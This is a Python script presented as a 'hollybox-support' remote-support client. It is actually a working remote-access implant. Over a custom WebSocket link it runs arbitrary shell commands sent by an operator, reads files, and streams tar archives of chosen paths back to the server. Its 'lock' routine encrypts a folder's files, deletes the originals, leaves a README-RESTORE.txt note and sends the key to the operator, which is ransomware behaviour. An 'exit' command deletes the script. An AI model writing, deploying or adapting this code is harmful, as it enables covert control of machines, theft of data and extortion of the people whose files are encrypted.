#!/usr/bin/python3
# hollybox-support 3.2 (remote support session)
import base64, json, os, socket, struct, subprocess, sys

H, P, URL = "127.0.0.1", 8457, "/support/live"


def xor(d, m):
    k = (m * (len(d) // 4 + 1))[:len(d)]
    return (int.from_bytes(d, "big") ^ int.from_bytes(k, "big")).to_bytes(len(d), "big") if d else d


def recvn(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def recv(s):
    b1, b2 = recvn(s, 2)
    n = b2 & 127
    if n == 126:
        n = struct.unpack(">H", recvn(s, 2))[0]
    elif n == 127:
        n = struct.unpack(">Q", recvn(s, 8))[0]
    m = recvn(s, 4) if b2 & 128 else None
    d = recvn(s, n)
    return b1 & 15, (xor(d, m) if m else d)


def send(s, d, op=1):
    if isinstance(d, str):
        d = d.encode()
    m, n = os.urandom(4), len(d)
    h = bytes([0x80 | op]) + (bytes([0x80 | n]) if n < 126 else bytes([0xFE]) + struct.pack(">H", n) if n < 65536 else bytes([0xFF]) + struct.pack(">Q", n))
    s.sendall(h + m + xor(d, m))


def main():
    s = socket.create_connection((H, P), timeout=30)
    k = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET %s HTTP/1.1\r\nHost: support.hollybox.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nUser-Agent: hollybox-support/3.2\r\n\r\n" % (URL, k)).encode())
    hdr = b""
    while b"\r\n\r\n" not in hdr:
        hdr += recvn(s, 1)
    if b" 101 " not in hdr.split(b"\r\n")[0]:
        return
    s.settimeout(None)
    send(s, json.dumps({"hello": socket.gethostname(), "uid": os.getuid(), "euid": os.geteuid(), "pid": os.getpid()}))
    while True:
        op, d = recv(s)
        if op == 8:
            break
        if op == 9:
            send(s, d, 10)
            continue
        t = json.loads(d)
        r = {"id": t.get("id")}
        try:
            if t["op"] == "sh":
                p = subprocess.run(["/bin/sh", "-c", t["cmd"]], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
                r["rc"], r["out"] = p.returncode, p.stdout.decode(errors="replace")
            elif t["op"] == "read":
                with open(t["path"], "rb") as f:
                    r["out"] = f.read(65536).decode(errors="replace")
            elif t["op"] == "ls":
                r["out"] = "\n".join("%s %d" % (e.name, e.stat().st_size) for e in os.scandir(t["path"]))
            elif t["op"] == "tar":
                p = subprocess.Popen(["tar", "czf", "-", "-C", "/"] + t["paths"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
                n = 0
                while True:
                    c = p.stdout.read(32768)
                    if not c:
                        break
                    send(s, c, 2)
                    n += len(c)
                r["rc"], r["bytes"] = p.wait(), n
            elif t["op"] == "lock":
                key, done = os.urandom(32), []
                for e in list(os.scandir(t["path"])):
                    if not e.is_file() or e.name.endswith(".hbx"):
                        continue
                    with open(e.path, "rb") as f:
                        b = f.read()
                    with open(e.path + ".hbx", "wb") as f:
                        f.write(bytes(c ^ key[i % 32] for i, c in enumerate(b)))
                    os.unlink(e.path)
                    done.append(e.name)
                with open(os.path.join(t["path"], "README-RESTORE.txt"), "w") as f:
                    f.write(t.get("note", ""))
                r["out"] = "%d files: %s" % (len(done), " ".join(done))
                r["key"] = key.hex()
            elif t["op"] == "exit":
                os.unlink(os.path.abspath(__file__))
                send(s, json.dumps({"id": t.get("id"), "out": "bye"}))
                s.close()
                return
        except Exception as e:  # noqa: BLE001 (the operator sees it)
            r["error"] = repr(e)
        send(s, json.dumps(r))


if __name__ == "__main__":
    main()
